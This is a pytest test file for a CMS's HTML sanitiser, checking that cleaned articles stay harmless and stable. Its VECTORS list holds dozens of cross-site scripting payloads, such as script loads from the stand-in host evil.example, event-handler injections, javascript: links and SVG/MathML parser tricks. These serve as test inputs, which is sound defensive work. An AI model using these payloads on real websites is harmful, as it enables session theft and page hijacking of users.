"""The sanitiser: nothing dangerous, nothing lost that is allowed, and one stored form."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from kimcms.domain import html as sanitiser
from kimcms.domain.html import from_markdown, to_markdown
from tests.domain.articles import ALLOWED, IMG_7, REL, STORED, assert_harmless, clean

VECTORS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></ScRiPt>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="/media/7/300.webp" onerror=alert(1) style="x:y" class=z id=q>
<img src="/media/7/300.webp" srcset="//evil.example/x 1x" alt='"><script>alert(1)</script>'>
<img src="/media/7/300.webp?x"><img src="/media/07/1.webp"><img src="/media/7/../8/1.webp">
<img src="https://evil.example/t.gif" width=1 height=1>
<img src="//evil.example/media/7/300.webp">
<img src="data:image/svg+xml;base64,PHN2Zy8+">
<img src=`javascript:alert(1)`>
<img '"><script>alert(1)</script>">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&#x0a;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="javascript:123">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.example">x</a><a href="/\\evil.example">x</a><a href="\\\\evil.example">x</a>
<a href="/keluar">x</a><a href="?a=b">x</a><a href="#x">x</a><a href="/media/7/300.webp">x</a>
<a href="blob:https://x.id/1">x</a><a href="file:///etc/passwd">x</a><a href="ftp://x.id">x</a>
<a href="https://x.id" target=_blank onclick=alert(1) style=x rel=opener ping=//evil>x</a>
<svg onload=alert(1)><p>a</p></svg>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg/>"></use></svg>
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=a(1)&gt;">
<math><mi><style><!--</style><img src=x onerror=alert(1)>--></mi></math>
<math><annotation-xml encoding="text/html"><svg><script>alert(1)</script></svg></annotation-xml>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form action=//evil.example><input name=p><button formaction=javascript:alert(1)>x</button></form>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<select><template><img src=x onerror=alert(1)></template></select>
<template><script>alert(1)</script></template>
<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,x"></object><embed src="//evil.example"><applet code=x></applet>
<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>
<base href="//evil.example/"><link rel=stylesheet href=//evil.example>
<meta http-equiv=refresh content=0>
<style>@import '//evil.example';</style><p style="background:url(//evil.example)">a</p>
<div style="position:fixed;inset:0"><details open ontoggle=alert(1)>x</details></div>
<p id=getElementById name=cookie>a</p><p slot=x is=y contenteditable tabindex=1 accesskey=x>b</p>
<!--[if IE]><script>alert(1)</script><![endif]--><!-- x --!><img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href=x?><!DOCTYPE html>
<p title='--><img src=x onerror=alert(1)>'>a
</p><plaintext><script>alert(1)</script>
<a href="https://x.id/&quot; onmouseover=alert(1) x=&quot;">x</a>
http://x.id/"onmouseover=alert(1)"><script>alert(1)</script>
www.x.id/'onmouseover='alert(1) www.x.id/<img/src=x/onerror=alert(1)>
javascript://www.x.id/%0aalert(1)
&lt;script&gt;alert(1)&lt;/script&gt;
<<script>alert(1);//<</script>
<figure><img src=x onerror=alert(1)><figcaption><script>alert(1)</script>&lt;b onclick=x&gt;
<table><td background=//evil.example><img src=/media/9/1.webp onerror=alert(1)></table>
<b <script>alert(1)</script>0</b>
<a\x0bhref=javascript:alert(1)>x</a><p/onclick=alert(1)>x
<img src=/media/7/300.webp\x00 onerror=alert(1)>
\ufeff<\x00script>alert(1)</script>\u202etxt.exe
""".strip().split("\n")


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("frame", ["{}", "<p>a{}b</p>", "<ul><li>{}", "<table><td>{}", "<a>{}"])
def test_known_attacks_come_out_harmless_and_settled(vector, frame):
    html = clean(frame.format(vector))
    assert_harmless(html)
    assert clean(html) == html
    assert_harmless(clean(from_markdown(frame.format(vector))))
    assert clean(from_markdown(to_markdown(html))) == html


@pytest.mark.parametrize("vector", VECTORS)
def test_the_last_word_needs_no_help_from_the_steps_before(vector):
    """As if everything in front of it let everything through."""
    assert_harmless(re.sub(r"<img[^>]*>|<a rel=[^>]*>", "", sanitiser._LAST_WORD.clean(vector)))
    for image in re.findall(r"<img[^>]*>", sanitiser._LAST_WORD.clean(vector)):
        assert not re.search(r"evil|data:|script:|onerror|style", re.sub(r'alt="[^"]*"', "", image))


def test_lone_surrogates_are_no_text():
    assert clean("a\ud800b&#xd800;") == "<p>ab\ufffd</p>"


_PIECES = st.sampled_from(
    [f"<{tag}>" for tag in (*ALLOWED, "b", "i", "div", "h1", "h5", "table", "td", "svg", "math")]
    + [f"</{tag}>" for tag in (*ALLOWED, "b", "i", "div", "h1", "table", "svg")]
    + [
        '<a href="https://x.id/a_(b)?q=1&amp;c">', "<a href='http://é.id/ü \"x'>",
        '<img src="/media/7/1.jpg" alt="[a] &quot;b&quot; \\ <c>">', "<img src=/media/12/480.webp>",
        "<img src=/media/99/480.webp>", "<style>", "<!--", "-->", "<![CDATA[", "<noscript>",
        "www.malang.id.", "(https://x.id/a_b?q=1&amp;r=2)", "&nbsp;", "&#1;", "&#x202e;", "&lt;b>",
        "&amp;copy;", "1. ", "- ", "+", "# ", "#", "> ", "*", "**", "_", "`", "![", "](", "\\", "!",
        "<", '"', "\n\n", " ", "kata", "ibu-ibu", "\u200d", "é", "---", "~", "&", "<onclick=x ",
    ]
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@example("www.malang.id.1. ")  # looks like an address, and is none
@given(st.lists(_PIECES, max_size=16).map("".join))
def test_cleaning_is_safe_settles_and_survives_markdown(source):
    html = clean(source)
    assert_harmless(html)
    assert clean(html) == html
    assert clean(from_markdown(to_markdown(html))) == html


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=80))
def test_any_text_is_either_stored_without_controls_or_refused(source):
    html = clean(source)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\ud800-\udfff]", html)
    html.encode()
    assert_harmless(html)


@pytest.mark.parametrize("html", STORED)
def test_the_stored_form_stays(html):
    assert clean(html) == html


@pytest.mark.parametrize(
    ("source", "stored"),
    [
        ("teks", "<p>teks</p>"),
        ("<h1>a</h1><h4>b</h4><h6>c</h6>", "<h2>a</h2><h3>b</h3><h3>c</h3>"),
        ("<p><b>a</b> <i>b</i></p>", "<p><strong>a</strong> <em>b</em></p>"),
        ("<div>a</div><div>b</div>", "<p>a</p><p>b</p>"),
        ("<p>a<br><br>b<br></p>", "<p>a</p><p>b</p>"),
        ("<table><tr><td>a<td>b<tr><td>c</table>", "<p>a b</p><p>c</p>"),
        (
            "<ul><li><p>a</p></li><ul><li>b</ul></ul>",
            "<ul><li>a</li><li><ul><li>b</li></ul></li></ul>",
        ),
        ("<p></p><b></b><ul><li></li></ul><blockquote> </blockquote>", ""),
        ("<strong><p>a</p><p>b</p></strong>", "<p><strong>a</strong></p><p><strong>b</strong></p>"),
        ("<p>a\u00a0\u200b  b\n c</p>", "<p>a b c</p>"),
        ("<p>a<script>x</script><style>y</style>b</p>", "<p>ab</p>"),
        ("<a>a</a><a href='javascript:1'>b</a>", "<p>ab</p>"),
        ("a\x00b\x1bc\u202ed&#1;e", "<p>abcde</p>"),
        ("<figure><p>teks</p><figcaption>c</figcaption></figure>", "<p>teks</p><p>c</p>"),
    ],
)  # fmt: skip
def test_what_is_sent_gets_its_stored_form(source, stored):
    assert clean(source) == stored


def test_an_own_photo_is_written_in_final_form():
    html = clean(
        '<p>a <a href="https://x.id/1"><img src="/media/12/480.jpg" alt="Panen  raya"></a> b</p>'
    )
    assert html == (
        '<p>a</p><figure><img src="/media/12/960.webp" srcset="/media/12/480.webp 480w,'
        ' /media/12/960.webp 960w, /media/12/1600.webp 1600w"'
        ' sizes="(min-width: 45rem) 42rem, 100vw" width="960" height="720" alt="Panen raya"'
        ' loading="lazy" decoding="async"></figure><p>b</p>'
    )


def test_captions_in_captions_and_figures_in_figures_end_where_they_began():
    photo = "<img src=/media/7/1.jpg>"
    nested = f"<ul><li>a<figure>{photo}<figcaption><li>b<figcaption>c</figcaption></li>d"
    html = clean(nested + f"<figure>{photo}<figcaption>e</figcaption></figure>f</figcaption>")
    figure = "<figure>" + IMG_7.format("") + "<figcaption>{}</figcaption></figure>"
    assert html == f"<ul><li>a{figure.format('e')}{figure.format('b c d f')}</li></ul>"


def test_a_foreign_image_goes_with_its_figure():
    for src in ("/media/99/480.webp", "https://x.id/media/7/300.webp", "data:image/png,x", "x"):
        source = f'<p>a</p><figure><img src="{src}"><figcaption>foto</figcaption></figure>'
        assert clean(source) == "<p>a</p>"


def test_a_caption_is_plain_text_and_serves_each_photo_of_its_figure():
    html = clean(
        "<figure><img src=/media/7/1.jpg><img src=/media/12/1.jpg>"
        "<figcaption><b>Foto</b>: <a href=https://x.id>KIM</a> www.x.id</figcaption></figure>"
        "lihat www.x.id"
    )
    assert html.count("<figcaption>Foto: KIM www.x.id</figcaption></figure>") == 2


@pytest.mark.parametrize(
    ("text", "link", "rest"),
    [
        ("lihat https://x.id/a_(b).", "https://x.id/a_(b)", "."),
        ("(www.malang.id)", "www.malang.id", ")"),
        ("di www.malang.id, besok", "www.malang.id", ", besok"),
        ("https://x.id/?a=1&amp;b=2!", "https://x.id/?a=1&amp;b=2", "!"),
    ],
)
def test_bare_addresses_become_links(text, link, rest):
    href = link if link.startswith("http") else "http://" + link
    assert f'<a href="{href}" {REL}>{link}</a>{rest}</p>' in clean(text)


def test_what_only_begins_like_an_address_stays_text():
    assert clean("www." * 3_000) == f"<p>{'www.' * 3_000}</p>"


def test_a_text_of_very_many_signs_keeps_its_addresses_as_text():
    assert "<a" in clean("&amp;" * 1_900 + " www.x.id")
    assert "<a" not in clean("&amp;" * 2_100 + " www.x.id")


def test_a_missing_space_after_a_full_stop_is_no_address():
    assert "<a" not in clean("Acara selesai.Ke depan warga berkumpul.Di balai RW 5, pukul 10.30.id")
